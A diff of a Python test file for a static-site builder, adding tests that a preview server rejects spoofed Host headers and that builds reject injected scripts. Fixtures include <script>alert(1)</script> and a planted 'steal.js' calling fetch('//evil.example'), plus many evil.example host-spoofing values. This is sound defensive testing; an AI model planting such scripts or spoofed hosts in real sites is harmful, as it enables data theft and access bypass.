@@ -2,12 +2,9 @@
 
 import logging
 import os
-import random
-import signal
 import socket
 import subprocess
 import sys
-import time
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -16,12 +13,12 @@ from selectolax.lexbor import LexborHTMLParser, LexborNode
 
 from sayso.diagnostics import Severity
 from sayso.links.internal import check_folder
-from sayso.site import exchange
+from sayso.sanitize import sanitize
+from sayso.site import timebound
 from sayso.site.build import BuildResult, CannotBuild, build
 from sayso.site.generate import generate
 from sayso.site.origins import Origins, TellOrigins
 from sayso.site.preview import allowed
-from sayso.site.sanitize import sanitize
 from tests.support.scratch import REPOSITORY, claims, copy_of_repository, scratch
 
 MKDOCS_YML = """\
@@ -90,7 +87,8 @@ def test_a_small_site_is_built_and_tested(site: Path) -> None:
     assert result.links > 100
     assert "Our army held 1 metres" in (site / "site/claims/claim-00001/index.html").read_text()
     assert check_folder(site / "site").findings == ()
-    assert [words.split()[0] for words in told[:3]] == ["Checking", "Building", "Testing"]
+    steps = [words.split()[0] for words in told if not words.startswith(" ")]  # else how far one is
+    assert steps[:3] == ["Checking", "Building", "Testing"]
     assert left_over(site) == []
 
 
@@ -219,12 +217,6 @@ def test_another_folder_below_another_root(site: Path, tmp_path_factory: pytest.
     assert (out / "index.html").is_file()
 
 
-def test_two_builds_at_once(site: Path) -> None:
-    with exchange.only_one(site), pytest.raises(CannotBuild, match=rf"process {os.getpid()}, since \d\d:"):
-        build(site)
-    assert build(site).site
-
-
 def test_a_disk_that_refuses_is_one_sentence(site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     build(site)
     before = tree(site / "site")
@@ -236,65 +228,6 @@ def test_a_disk_that_refuses_is_one_sentence(site: Path, monkeypatch: pytest.Mon
     with pytest.raises(CannotBuild, match=r"^cannot write the site: no space left on device$"):
         build(site)
     assert tree(site / "site") == before
-    assert left_over(site) == []
-
-
-@pytest.mark.parametrize("swapping", [True, False])
-def test_the_exchange(tmp_path: Path, swapping: bool, monkeypatch: pytest.MonkeyPatch) -> None:
-    if not swapping:
-        monkeypatch.setattr(exchange, "_swap", lambda *_: False)
-    target = tmp_path / "site"
-    for words in ("old", "new", "newer"):
-        made = exchange.beside(target)
-        (made / "404.html").write_text(words)
-        exchange.put(made, target)
-        assert tree(tmp_path) == {"site/404.html": words.encode()}
-        assert os.listdir(tmp_path) == ["site"]
-
-
-def test_what_a_kill_between_two_renames_left_is_put_back(tmp_path: Path) -> None:
-    (tmp_path / ".site-old-a").mkdir()
-    (tmp_path / ".site-old-a/404.html").write_text("old")
-    (tmp_path / ".site-new-b").mkdir()
-    (tmp_path / ".site-mkdocs").mkdir()
-    exchange.recover(tmp_path / "site")
-    assert sorted(os.listdir(tmp_path)) == [".site-mkdocs", "site"]
-    assert (tmp_path / "site/404.html").read_text() == "old"
-
-
-def test_killed_at_any_moment_it_leaves_the_old_site_or_the_new(site: Path) -> None:
-    """A part of the promise in SECURITY.md; the moments are drawn, so that they differ by run."""
-    build(site)
-    page = site / "site/claims/claim-00001/index.html"
-    moments = random.Random(20250105)  # noqa: S311 - no secret
-    words = "1 metres"
-    for number in range(6):
-        new = f"{number + 100} metres"
-        (site / "claims.yml").write_text(claims(3).replace("held 1 metres", f"held {new}"))
-        command = [str(BIN / "sayso"), "build", "--quiet"]
-        process = subprocess.Popen(command, cwd=site, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-        time.sleep(moments.uniform(0.3, 1.6))
-        process.send_signal(signal.SIGKILL)
-        process.wait()
-        found = next(each for each in (new, words) if f"held {each}" in page.read_text())
-        assert check_folder(site / "site").findings == ()
-        words = found
-    assert errors(build(site)) == []
-    assert left_over(site) == []
-
-
-def test_interrupted_it_ends_with_130_and_leaves_nothing(site: Path) -> None:
-    process = subprocess.Popen(
-        [str(BIN / "sayso"), "build"], cwd=site, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
-    )
-    assert process.stderr is not None
-    for line in process.stderr:
-        if line.startswith("Building"):
-            break
-    process.send_signal(signal.SIGINT)
-    _, said = process.communicate(timeout=30)
-    assert process.returncode == 130
-    assert "Traceback" not in said
     assert left_over(site) == []
 
 
@@ -462,6 +395,29 @@ def test_the_sanitizer_leaves_alone_what_templates_write(html: str) -> None:
         ("LOCALHOST", "127.0.0.1", True),
         ("[::1]:8000", "127.0.0.1", True),
         ("", "127.0.0.1", False),
+        ("127.0.0.1:8000,evil.example", "127.0.0.1", False),
+        ("127.0.0.1:evil.example", "127.0.0.1", False),
+        ("[::1]evil.example", "127.0.0.1", False),
+        ("[::1].evil.example:8000", "127.0.0.1", False),
+        ("evil.example@127.0.0.1", "127.0.0.1", False),
+        ("127.0.0.1@evil.example", "127.0.0.1", False),
+        ("127.0.0.1/evil.example", "127.0.0.1", False),
+        ("127.0.0.1 evil.example", "127.0.0.1", False),
+        ("127.0.0.1:8000:8000", "127.0.0.1", False),
+        ("localhostevil.example", "127.0.0.1", False),
+        ("evil-localhost", "127.0.0.1", False),
+        ("localhost\0.evil.example", "127.0.0.1", False),
+        ("ⓛocalhost", "127.0.0.1", False),
+        ("127.0.0.1.nip.io", "127.0.0.1", False),
+        ("0.0.0.0", "127.0.0.1", False),  # noqa: S104
+        ("[::]:8000", "127.0.0.1", False),
+        ("2130706433", "127.0.0.1", False),
+        ("0x7f000001", "127.0.0.1", False),
+        ("127.0.0.2:8000", "127.0.0.1", True),
+        ("[0:0:0:0:0:0:0:1]", "127.0.0.1", True),
+        ("127.0.0.1", "::1", True),
+        ("[::1]:8000", "::1", True),
+        ("evil.example", "::1", False),
         ("evil.example:8000", "127.0.0.1", False),
         ("localhost.evil.example", "127.0.0.1", False),
         ("127.0.0.1.evil.example", "127.0.0.1", False),
@@ -515,3 +471,60 @@ def test_neighbours_banners_stay_quiet(site: Path) -> None:
     )
     assert ended.returncode == 0
     assert "MkDocs 2" not in ended.stdout + ended.stderr
+
+
+# What must never get out
+
+
+def test_every_page_says_what_a_browser_may_run_in_it(site: Path) -> None:
+    build(site)
+    for path in (site / "site").rglob("*.html"):
+        html = path.read_text()
+        assert html.count('http-equiv="Content-Security-Policy"') == 1, path
+        assert html.index("Content-Security-Policy") < html.index("<script"), path
+
+
+def test_a_template_that_lets_a_script_through_is_stopped_at_the_editors_file(site: Path) -> None:
+    build(site)
+    before = tree(site / "site")
+    (site / "site_config/theme").mkdir()
+    (site / "site_config/theme/main.html").write_text(
+        '{% extends "base.html" %}{% block content %}{{ super() }}'
+        "{% if page.url == 'claims/claim-00001/' %}<script>alert(1)</script>{% endif %}{% endblock %}"
+    )
+    (site / "mkdocs.yml").write_text(MKDOCS_YML.replace("font:", "custom_dir: site_config/theme, font:"))
+    result = build(site)
+    assert result.site is None
+    told = errors(result)
+    assert len(told) == 1
+    place, _, words = told[0].partition(": ")
+    assert place == "claims.yml:8:9", "where the record of that page stands"
+    assert words == "SAY047 claims/claim-00001/index.html: a script that is not ours: alert(1)"
+    assert tree(site / "site") == before
+
+
+def test_what_somebody_put_among_the_pages_does_not_get_out(site: Path) -> None:
+    (site / "build/docs/assets").mkdir(parents=True)
+    (site / "build/docs/assets/steal.js").write_text("fetch('//evil.example')")
+    (site / "build/docs/more.html").write_text("<!doctype html><script src=assets/steal.js></script>")
+    told = errors(build(site))
+    assert any("SAY047 assets/steal.js: nobody declared this file" in each for each in told)
+    assert any("SAY047 more.html: a script that is not ours" in each for each in told)
+
+
+def test_a_list_of_what_may_be_active_that_cannot_be_read_is_a_finding(site: Path) -> None:
+    (site / "site_config/active-content.json").write_text("{}")
+    result = build(site)
+    assert not result.configured
+    assert errors(result)[0].startswith("site_config/active-content.json:1:1: SAY040 the list cannot be used")
+
+
+def test_a_page_that_takes_too_long_is_a_finding_not_a_hang(
+    site: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(timebound, "MOST", 0.02)
+    (site / "content/index.md").write_text(HOME + "*a* [b](c.md) `d`\n\n" * 2500)
+    told = errors(build(site))
+    assert [each for each in told if "took more than 0.02 s" in each] == told
+    assert told[0].startswith("content/index.md:1:1: SAY045 ")
+    assert len(told) == 1
